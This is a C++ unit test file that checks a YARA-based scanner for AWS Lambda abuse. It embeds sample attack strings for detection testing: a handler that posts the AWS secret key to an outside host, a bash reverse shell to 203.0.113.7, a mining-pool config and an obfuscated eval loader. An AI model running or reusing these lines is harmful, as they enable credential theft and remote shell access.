// The bundled YARA rules through libyara, checked against the yara command on the same
// files, plus lambda-ir's own Lambda-abuse rules on samples written for them.
#include <gtest/gtest.h>

#include <filesystem>
#include <set>

#include "analysis/yara_scanner.h"
#include "core/strings.h"
#include "test_support.h"

namespace lir {
namespace {

const std::map<std::string, std::string> kSamples = {
    {"handler.py", "import os, requests\n\ndef handler(event, context):\n"
                   "    requests.post('https://collector.example.net/x', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n"},
    {"config.json", "{\"pools\": [{\"url\": \"stratum+tcp://pool.example.org:4444\"}], \"donate-level\": 1}\n"},
    {"run.sh", "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n"},
    {"extension.py", "import requests\nr = requests.post('http://' + api + '/2020-01-01/extension/register',\n"
                     "    headers={'Lambda-Extension-Name': 'telemetry'})\n"},
    {"loader.js", "const p = require('child_process');\neval(atob('Y29uc29sZS5sb2coMSk='));\n"},
    {"clean.py", "def handler(event, context):\n    return {'statusCode': 200}\n"},
};

std::unique_ptr<YaraScanner> Scanner() {
  auto s = YaraScanner::FromEmbedded();
  EXPECT_TRUE(s) << (s ? "" : s.error().message);
  return s ? std::move(*s) : nullptr;
}

TEST(Yara, BundledRulesCompile) {
  auto scanner = Scanner();
  ASSERT_TRUE(scanner);
  // GuardDog's 61 include lolbas-proc.meta's one rule, which no GuardDog file includes.
  EXPECT_EQ(scanner->rule_count(), 6u + 60u + 101u + 1u);
}

TEST(Yara, LambdaAbuseRulesOnTheirSamples) {
  auto scanner = Scanner();
  ASSERT_TRUE(scanner);
  std::set<std::string> ours;
  for (const auto& [name, content] : kSamples) {
    for (const auto& m : scanner->Scan(name, content)) {
      if (m.ns.rfind("lambda-ir/", 0) == 0) ours.insert(m.rule + " " + m.file);
    }
  }
  EXPECT_EQ(ours, (std::set<std::string>{"lambda_ir_credential_exfiltration handler.py", "lambda_ir_mining_pool config.json",
                                         "lambda_ir_reverse_shell run.sh", "lambda_ir_extension_registration extension.py",
                                         "lambda_ir_obfuscated_exec loader.js"}));
}

// A match names the line of its earliest string, so a report can point at it. The reverse
// shell is on run.sh's second line; a line further down moves the match with it.
TEST(Yara, AMatchNamesTheLineOfItsFirstString) {
  auto scanner = Scanner();
  ASSERT_TRUE(scanner);
  std::map<std::string, uint32_t> lines;
  for (const auto& [name, content] : kSamples) {
    for (const auto& m : scanner->Scan(name, content)) {
      if (m.ns.rfind("lambda-ir/", 0) == 0) lines[m.rule] = m.line;
    }
  }
  EXPECT_EQ(lines, (std::map<std::string, uint32_t>{{"lambda_ir_credential_exfiltration", 4},
                                                    {"lambda_ir_mining_pool", 1},
                                                    {"lambda_ir_reverse_shell", 2},
                                                    {"lambda_ir_extension_registration", 2},
                                                    {"lambda_ir_obfuscated_exec", 2}}));
  uint32_t moved = 0;
  for (const auto& m : scanner->Scan("run.sh", "#!/bin/bash\n\n\n\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n")) {
    if (m.rule == "lambda_ir_reverse_shell") moved = m.line;
  }
  EXPECT_EQ(moved, 5u);
}

TEST(Yara, PathIncludeSelectsFiles) {
  EXPECT_TRUE(PathIncluded("*.py,*.js,*/package.json", "lib/util.py"));
  EXPECT_TRUE(PathIncluded("*.py,*.js,*/package.json", "node_modules/x/package.json"));
  EXPECT_FALSE(PathIncluded("*.py,*.js", "config.json"));
}

TEST(Yara, SameMatchesAsTheYaraCommand) {
  auto scanner = Scanner();
  ASSERT_TRUE(scanner);
  test::TempDir dir;
  std::vector<std::string> rule_args;
  for (const auto& entry : std::filesystem::recursive_directory_iterator(test::SourceDir() + "/yara")) {
    const std::string path = entry.path().string();
    if (!entry.is_regular_file() || !(path.ends_with(".yar") || path.ends_with(".yara"))) continue;
    const std::string ns = std::filesystem::relative(entry.path(), test::SourceDir() + "/yara").generic_string();
    rule_args.push_back(ns + ":" + path);
  }
  std::sort(rule_args.begin(), rule_args.end());
  size_t compared = 0;
  for (const auto& [name, content] : kSamples) {
    test::WriteFile(dir.File(name), content);
    const size_t dot = name.rfind('.');
    std::vector<std::string> argv{"yara", "-w", "-e", "-d", "filepath=" + name, "-d", "filename=" + name, "-d",
                                  "extension=" + name.substr(dot), "-d", "filetype=", "-d", "owner="};
    argv.insert(argv.end(), rule_args.begin(), rule_args.end());
    argv.push_back(dir.File(name));
    const auto r = test::RunCommand(argv);
    ASSERT_EQ(r.exit_code, 0) << r.err;
    std::set<std::string> theirs, ours;
    for (std::string_view line : Split(r.out, '\n')) {
      if (line.empty()) continue;
      theirs.insert(std::string(line.substr(0, line.find(' '))));
    }
    for (const auto& m : scanner->Scan(name, content, /*all_rules=*/true)) ours.insert(m.ns + ":" + m.rule);
    EXPECT_EQ(ours, theirs) << name;
    compared += theirs.size();
  }
  EXPECT_GE(compared, 5u);  // the comparison saw real matches, not only empty sets
}

}  // namespace
}  // namespace lir
